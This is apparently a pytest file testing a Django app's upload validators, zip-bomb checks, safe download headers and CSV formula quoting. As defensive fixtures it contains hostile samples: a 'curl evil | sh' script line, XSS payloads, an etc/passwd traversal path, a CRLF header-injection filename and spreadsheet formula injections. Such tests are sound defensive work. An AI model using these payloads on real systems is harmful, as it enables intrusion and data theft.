"""Uploads are limited in size and to a few document types whose content is checked;
downloads go out so that a browser saves them and runs nothing (ikz.core.files)."""

import io
import struct
import zipfile
import zlib

import docx
import pptx
import pytest
import weasyprint
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.http import HttpResponse
from PIL import Image
from pypdf import PdfReader, PdfWriter

from ikz.core.domain import attach_document
from ikz.core.files import (
    DOCUMENT_TYPES,
    UploadSizeValidator,
    UploadTypeValidator,
    content_disposition,
    german_csv,
    safe_download_headers,
    spreadsheet_cell,
)
from ikz.core.models import Document
from tests.factories import CooperationFactory, MeetingFactory, pdf_bytes

# A complete PNG of one pixel.
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00"
    b"\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\x90\x8f\xef\xfe\x0f\x00\x03\xb3\x02\t{"
    b"\x04h\xdd\x00\x00\x00\x00IEND\xaeB`\x82"
)
PDF = pdf_bytes()
MB = 1024 * 1024
ALLOWED = ".pdf, .docx, .xlsx, .pptx, .odt, .ods, .odp, .txt, .csv, .png, .jpg, .jpeg"


def zipped(members: dict[str, bytes], compression=zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def zipped_deflated(members: dict[str, bytes]) -> bytes:
    return zipped(members, zipfile.ZIP_DEFLATED)


def saved(document) -> bytes:
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def image(format_name: str, size=(3, 2)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, "red").save(buffer, format_name)
    return buffer.getvalue()


JPEG = image("JPEG")


def open_document(kind: str) -> bytes:
    mimetype = f"application/vnd.oasis.opendocument.{kind}".encode()
    return zipped({"mimetype": mimetype, "content.xml": b"<office:document-content/>"})


def office_open_xml(main_part: str) -> bytes:
    return zipped({"[Content_Types].xml": b"<Types/>", main_part: b"<x/>"})


SAMPLES = {
    "pdf": PDF,
    "docx": saved(docx.Document()),
    "xlsx": office_open_xml("xl/workbook.xml"),
    "pptx": saved(pptx.Presentation()),
    "odt": open_document("text"),
    "ods": open_document("spreadsheet"),
    "odp": open_document("presentation"),
    "txt": "Protokoll der Sitzung in Großpösna\n".encode("cp1252"),
    "csv": "Gemeinde;Einwohner\nGroßpösna;5.400\n".encode(),
    "png": PNG,
    "jpg": JPEG,
    "jpeg": JPEG,
}


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


def refusal(validator, value) -> ValidationError:
    with pytest.raises(ValidationError) as excinfo:
        validator(value)
    return excinfo.value


def test_every_allowed_type_has_a_sample():
    assert set(SAMPLES) == set(DOCUMENT_TYPES)
    assert ", ".join(f".{extension}" for extension in DOCUMENT_TYPES) == ALLOWED


@pytest.mark.parametrize("extension", SAMPLES)
def test_each_allowed_type_is_accepted(extension):
    file = upload(f"Anlage.{extension.upper()}", SAMPLES[extension])

    UploadTypeValidator()(file)
    UploadSizeValidator()(file)

    assert file.tell() == 0  # the check leaves the file as it found it


def test_utf16_text_is_accepted():
    UploadTypeValidator()(upload("liste.txt", "Naunhof\n".encode("utf-16")))


@pytest.mark.parametrize("name", ["programm.exe", "seite.html", "bild.svg", "archiv.zip"])
def test_other_extensions_are_refused_naming_the_allowed_ones(name):
    error = refusal(UploadTypeValidator(), upload(name, PDF))

    assert error.code == "file_type"
    assert error.params == {"extension": name.rsplit(".", 1)[1], "allowed": ALLOWED}
    assert ALLOWED in error.messages[0]
    assert f".{error.params['extension']}" in error.messages[0]


def test_a_name_without_extension_is_refused():
    error = refusal(UploadTypeValidator(), upload("protokoll", PDF))

    assert error.code == "file_type"
    assert ALLOWED in error.messages[0]


def truncated(content: bytes) -> bytes:
    return content[: len(content) // 2]


def damaged_part(content: bytes, part: str) -> bytes:
    """The package with ``part``'s packed bytes changed: it no longer unpacks."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        info = archive.getinfo(part)
    data = bytearray(content)
    # Past the local header (30 bytes, the name, an extra field of usually no bytes).
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    data[start + 2] ^= 0xFF
    return bytes(data)


def png_header(width: int, height: int) -> bytes:
    """A PNG that declares a size and holds no pixels."""
    header = b"IHDR" + struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + struct.pack(">I", 13)
        + header
        + struct.pack(">I", zlib.crc32(header))
        + b"\x00\x00\x00\x00IEND\xaeB`\x82"
    )


def with_attachment(name: str, content: bytes) -> bytes:
    """A valid PDF of one page that carries a file (stored unpacked, near its start)."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_attachment(name, content)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


# What a German user reads.
UNREADABLE = (
    "Die Datei „{name}“ lässt sich nicht als „.{extension}“-Datei lesen; vielleicht ist sie "
    "beschädigt, unvollständig oder umbenannt."
)
PROGRAM = (
    "Die Datei „{name}“ beginnt wie ein Programm ({header}) und kann nicht hochgeladen werden."
)
WEB_PAGE = (
    "Die Datei „{name}“ enthält Code einer Webseite ({markup}), den ein Browser ausführen "
    "könnte; sie kann nicht hochgeladen werden."
)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("bild.png", JPEG),
        ("foto.jpg", PNG),
        ("foto.jpg", truncated(JPEG)),
        ("bild.png", truncated(PNG)),
        ("bericht.docx", zipped({"readme.txt": b"kein Word"})),
        ("bericht.docx", SAMPLES["pptx"]),
        ("bericht.docx", office_open_xml("word/other.xml")),
        ("bericht.docx", damaged_part(SAMPLES["docx"], "word/document.xml")),
        ("bericht.docx", truncated(SAMPLES["docx"])),
        ("tabelle.xlsx", b"PK\x03\x04 kaputt"),
        ("folien.pptx", office_open_xml("ppt/slides/slide1.xml")),
        ("text.odt", open_document("spreadsheet")),
        ("text.odt", zipped({"mimetype": b"application/vnd.oasis.opendocument.text"})),
        ("folien.odp", SAMPLES["docx"]),
        ("protokoll.pdf", truncated(PDF)),
        ("protokoll.pdf", PDF[:40]),
        ("protokoll.pdf", b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"),
        ("protokoll.pdf", SAMPLES["docx"]),
        ("leer.pdf", b""),
        ("liste.csv", b"Gemeinde;Einwohner\n" * 1000 + b"\x00\x01"),
        # A high surrogate that nothing follows.
        ("liste.txt", b"\xff\xfe" + "Größe".encode("utf-16-le") + b"\x00\xd8"),
        ("liste.txt", b"Gr\x81\xc3e"),
    ],
    ids=[
        "jpeg as png",
        "png as jpg",
        "truncated jpeg",
        "truncated png",
        "zip without office parts",
        "pptx as docx",
        "docx without document.xml",
        "docx with a damaged part",
        "truncated docx",
        "no zip",
        "pptx without presentation.xml",
        "ods as odt",
        "odt without content.xml",
        "docx as odp",
        "truncated pdf",
        "pdf header only",
        "pdf without cross-reference table",
        "docx as pdf",
        "empty",
        "binary after the first 8 kb",
        "broken utf-16",
        "neither utf-8 nor windows-1252",
    ],
)
def test_content_of_another_kind_is_refused(name, content):
    error = refusal(UploadTypeValidator(), upload(name, content))

    extension = name.rsplit(".", 1)[1]
    assert error.code == "file_content"
    assert error.params == {"name": name, "extension": extension}
    assert error.messages == [UNREADABLE.format(name=name, extension=extension)]


@pytest.mark.parametrize(
    ("name", "content", "header"),
    [
        ("protokoll.pdf", b"MZ\x90\x00\x03\x00\x00\x00" + PDF, "MZ"),
        ("protokoll.pdf", b"\x7fELF\x02\x01\x01\x00%PDF-1.7\n", "ELF"),
        ("protokoll.pdf", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01%PDF-1.7\n", "Mach-O"),
        ("protokoll.pdf", b"\xca\xfe\xba\xbe\x00\x00\x00\x02%PDF-1.7\n", "Mach-O"),
        ("protokoll.pdf", b"#!/bin/sh\n# %PDF-1.7\ncurl evil | sh\n", "#!"),
        ("liste.csv", b"MZ\x90\x00\x03\x00\x00\x00", "MZ"),
    ],
    ids=["windows", "linux", "macos", "macos universal", "script", "csv"],
)
def test_a_program_is_refused_also_when_it_carries_a_document_header(name, content, header):
    error = refusal(UploadTypeValidator(), upload(name, content))

    assert error.code == "file_content"
    assert error.params == {"name": name, "header": header}
    assert error.messages == [PROGRAM.format(name=name, header=header)]


@pytest.mark.parametrize(
    ("name", "content", "markup"),
    [
        ("protokoll.pdf", b"%PDF-1.7\n<html><script>alert(1)</script></html>", "<html"),
        ("protokoll.pdf", b"<!DOCTYPE html>\n<title>%PDF-1.7</title>", "<!doctype html"),
        ("protokoll.pdf", b"<SCRIPT>alert(1)</SCRIPT>%PDF-1.7", "<script"),
        ("protokoll.pdf", b"%PDF-1.7 <BoDy onload=alert(1)>", "<body"),
        ("protokoll.pdf", b"%PDF-1.7\n<iframe src=//example.org>", "<iframe"),
        ("protokoll.pdf", b"%PDF-1.7\n<svg/onload=alert(1)>", "<svg"),
        ("bild.png", PNG + b"<svg onload=alert(1)>", "<svg"),
        ("liste.txt", "<script>alert(1)</script>".encode("utf-16"), "<script"),
        ("liste.csv", b"Gemeinde;Notiz\nNaunhof;<img src=x onerror=alert(1)>\n", "<img"),
    ],
    ids=[
        "html page",
        "doctype",
        "upper case script",
        "mixed case body",
        "iframe",
        "svg",
        "after a valid png",
        "utf-16 text",
        "csv",
    ],
)
def test_a_web_page_is_refused_also_when_it_carries_a_document_header(name, content, markup):
    error = refusal(UploadTypeValidator(), upload(name, content))

    assert error.code == "file_content"
    assert error.params == {"name": name, "markup": markup}
    assert error.messages == [WEB_PAGE.format(name=name, markup=markup)]


def test_text_that_only_mentions_tags_is_accepted():
    UploadTypeValidator()(upload("notiz.txt", b"Die Tabelle <Einwohner> und 3 < 4 > 2.\n"))


def test_a_valid_pdf_carrying_a_web_page_is_refused_even_though_pypdf_reads_it():
    content = with_attachment("seite.html", b"<html><script>alert(1)</script></html>")

    assert len(PdfReader(io.BytesIO(content)).pages) == 1
    error = refusal(UploadTypeValidator(), upload("protokoll.pdf", content))
    assert error.messages == [WEB_PAGE.format(name="protokoll.pdf", markup="<html")]


def test_a_pdf_made_by_weasyprint_is_accepted():
    content = weasyprint.HTML(string="<h1>Protokoll</h1><p>Sitzung in Großpösna</p>").write_pdf()

    UploadTypeValidator()(upload("protokoll.pdf", content))


@pytest.mark.parametrize("user_password", ["", "geheim"], ids=["locked against editing", "locked"])
def test_an_encrypted_pdf_is_accepted(user_password):
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password, "eigentuemer", algorithm="AES-256")
    buffer = io.BytesIO()
    writer.write(buffer)

    UploadTypeValidator()(upload("vertraulich.pdf", buffer.getvalue()))


# Pillow warns of the first size and refuses the second itself.
@pytest.mark.parametrize("side", [10_000, 30_000])
@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
def test_an_image_of_too_many_pixels_is_refused_before_it_is_decoded(side):
    error = refusal(UploadTypeValidator(), upload("plan.png", png_header(side, side)))

    assert error.code == "file_content"
    assert error.messages == [
        "Das Bild „plan.png“ hat mehr als 89 Millionen Pixel; größere Bilder können nicht "
        "hochgeladen werden."
    ]


def test_a_zip_part_packed_like_a_bomb_is_refused():
    bomb = zipped_deflated(
        {"[Content_Types].xml": b"<Types/>", "word/document.xml": bytes(MB * 20)}
    )

    error = refusal(UploadTypeValidator(), upload("bericht.docx", bomb))

    assert error.code == "file_content"
    assert error.messages == [
        "Der Teil „word/document.xml“ der Datei „bericht.docx“ ist dichter als 100:1 gepackt, "
        "wie kein Dokument; die Datei wird als mögliche Zip-Bombe abgelehnt."
    ]


def test_a_zip_of_many_small_tightly_packed_parts_is_refused():
    parts = {f"word/media/leer{number}.bin": bytes(MB - 1) for number in range(12)}
    bomb = zipped_deflated(
        {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<x/>"} | parts
    )

    error = refusal(UploadTypeValidator(), upload("bericht.docx", bomb))

    assert error.messages == [
        "Die Datei „bericht.docx“ entpackt sich zu 12 MB, mehr als das 100-Fache ihrer eigenen "
        "Größe, wie kein Dokument; sie wird als mögliche Zip-Bombe abgelehnt."
    ]


def test_size_limit_is_the_setting_in_mb(settings):
    settings.IKZ_UPLOAD_MAX_MB = 1
    UploadSizeValidator()(upload("grenze.pdf", PDF + b"0" * (1024 * 1024 - len(PDF))))

    error = refusal(UploadSizeValidator(), upload("gross.pdf", PDF + b"0" * (1024 * 1024)))

    assert error.code == "file_too_large"
    # Rounded up, in the German way of writing decimals.
    assert error.params == {"size": "1,1", "limit": 1}
    assert "1,1 MB" in error.messages[0]
    assert "1 MB" in error.messages[0]


def test_size_limit_is_20_mb_by_default(settings):
    del settings.IKZ_UPLOAD_MAX_MB
    file = upload("gross.pdf", b"")
    file.size = 20 * 1024 * 1024 + 1

    assert refusal(UploadSizeValidator(), file).params == {"size": "20,1", "limit": 20}


def test_validators_serialize_for_migrations_without_the_limit():
    assert UploadSizeValidator().deconstruct() == ("ikz.core.files.UploadSizeValidator", (), {})
    assert UploadTypeValidator().deconstruct() == ("ikz.core.files.UploadTypeValidator", (), {})
    assert UploadSizeValidator() == UploadSizeValidator()


# On the document


@pytest.fixture
def meeting():
    return MeetingFactory(body__cooperation=CooperationFactory())


def document(meeting, file):
    return Document(
        cooperation=meeting.body.cooperation, meeting=meeting, title="Anlage", file=file
    )


@pytest.mark.django_db
def test_document_accepts_an_allowed_upload(meeting):
    document(meeting, upload("Protokoll.pdf", PDF)).full_clean()


@pytest.mark.django_db
def test_document_refuses_a_renamed_program_on_its_file_field(meeting):
    with pytest.raises(ValidationError) as excinfo:
        document(meeting, upload("Protokoll.pdf", b"MZ\x90\x00")).full_clean()

    assert list(excinfo.value.message_dict) == ["file"]


@pytest.mark.django_db
def test_document_refuses_a_file_over_the_limit(meeting, settings):
    settings.IKZ_UPLOAD_MAX_MB = 1

    with pytest.raises(ValidationError) as excinfo:
        document(meeting, ContentFile(PDF + b"0" * 1024 * 1024, name="gross.pdf")).full_clean()

    assert [error.code for error in excinfo.value.error_dict["file"]] == ["file_too_large"]


# Through attach_document: nothing is stored of a refused file.

EXECUTABLE_PDF = b"MZ\x90\x00\x03\x00\x00\x00%PDF-1.7\n" + PDF
WEB_PAGE_PDF = b"<!DOCTYPE html><html><body>%PDF-1.7<script>alert(1)</script></body></html>"


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("content", "message"),
    [
        (EXECUTABLE_PDF, PROGRAM.format(name="vorlage.pdf", header="MZ")),
        (WEB_PAGE_PDF, WEB_PAGE.format(name="vorlage.pdf", markup="<!doctype html")),
        (truncated(PDF), UNREADABLE.format(name="vorlage.pdf", extension="pdf")),
    ],
    ids=["program", "web page", "truncated pdf"],
)
def test_attach_document_refuses_a_false_pdf_and_stores_nothing(
    meeting, settings, tmp_path, content, message
):
    settings.MEDIA_ROOT = tmp_path

    with pytest.raises(ValidationError) as excinfo:
        attach_document(file=ContentFile(content, name="vorlage.pdf"), meeting=meeting)

    assert excinfo.value.message_dict == {"file": [message]}
    assert not Document.objects.exists()
    assert list(tmp_path.rglob("*")) == []


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["vorlage.pdf", "vorlage.docx", "plan.png"])
def test_attach_document_stores_a_real_document(meeting, settings, tmp_path, name):
    settings.MEDIA_ROOT = tmp_path
    content = SAMPLES[name.rsplit(".", 1)[1]]

    document = attach_document(file=ContentFile(content, name=name), meeting=meeting)

    assert Document.objects.get() == document
    with document.file.open("rb") as stored:
        assert stored.read() == content


@pytest.mark.django_db
def test_a_stored_document_is_not_checked_again(meeting):
    # Stored before the rules (or its file gone): changing the title must still work.
    document(meeting, "documents/1/altes-format.doc").full_clean()


# Downloads


def test_download_headers_for_a_plain_name():
    response = safe_download_headers(HttpResponse(b"%PDF-"), "protokoll-2020-05.pdf")

    assert response["Content-Disposition"] == 'attachment; filename="protokoll-2020-05.pdf"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "default-src 'none'; sandbox"


def test_download_headers_for_a_german_name_have_an_ascii_name_and_filename_star():
    response = safe_download_headers(HttpResponse(), "Sitzungsübersicht März 2020.pdf")

    assert response["Content-Disposition"] == (
        'attachment; filename="Sitzungsuebersicht Maerz 2020.pdf"; '
        "filename*=UTF-8''Sitzungs%C3%BCbersicht%20M%C3%A4rz%202020.pdf"
    )


def test_download_headers_for_a_standalone_html_document_allow_its_styles():
    response = safe_download_headers(HttpResponse(), "bericht.html", inline_styles=True)

    assert response["Content-Security-Policy"] == (
        "default-src 'none'; style-src 'unsafe-inline'; img-src data:; sandbox"
    )


@pytest.mark.parametrize(
    ("filename", "header"),
    [
        # A path up and out of the upload folder (written joined: the layout test looks
        # for paths that leave the repository).
        ("/".join(["..", "..", "etc", "passwd"]), 'attachment; filename="passwd"'),
        ("C:\\Temp\\bericht.pdf", 'attachment; filename="bericht.pdf"'),
        (
            'Bericht "Mai".pdf',
            "attachment; filename=\"Bericht _Mai_.pdf\"; filename*=UTF-8''Bericht%20%22Mai%22.pdf",
        ),
        ("zeile\r\nSet-Cookie: x=1.pdf", 'attachment; filename="zeileSet-Cookie: x=1.pdf"'),
        ("Café.pdf", "attachment; filename=\"Cafe.pdf\"; filename*=UTF-8''Caf%C3%A9.pdf"),
        (
            "Übersicht\u202efdp.exe",
            "attachment; filename=\"Uebersichtfdp.exe\"; filename*=UTF-8''%C3%9Cbersichtfdp.exe",
        ),
        ("", 'attachment; filename="download"'),
        ("Żółw.txt", "attachment; filename=\"Zo_w.txt\"; filename*=UTF-8''%C5%BB%C3%B3%C5%82w.txt"),
    ],
)
def test_content_disposition_keeps_only_a_safe_last_name(filename, header):
    assert content_disposition(filename) == header


# CSV


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\tText", "'\tText"),
        ("\rText", "'\rText"),
        (" =1+1", "' =1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("-A1", "'-A1"),
        ("-2 345", "'-2 345"),
        ('=HYPERLINK("http://x.example";"Bericht")', '\'=HYPERLINK("http://x.example";"Bericht")'),
    ],
)
def test_spreadsheet_cell_like_a_formula_is_quoted(value, cell):
    assert spreadsheet_cell(value) == cell


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("-1.234,56", "-1.234,56"),
        ("-1234.56", "-1234.56"),
        ("+3", "+3"),
        (-5, "-5"),
        (12, "12"),
        (None, ""),
        ("Stellenbörse 1+1", "Stellenbörse 1+1"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_spreadsheet_cell_of_a_number_or_text_stays(value, cell):
    assert spreadsheet_cell(value) == cell


def test_german_csv_has_a_bom_semicolons_and_no_formula():
    text = german_csv([["Titel", "Betrag"], ["=1+1", "-1.234,56"], ["a;b", 'sagt "ja"']])

    assert text == ('\ufeffTitel;Betrag\r\n\'=1+1;-1.234,56\r\n"a;b";"sagt ""ja"""\r\n')
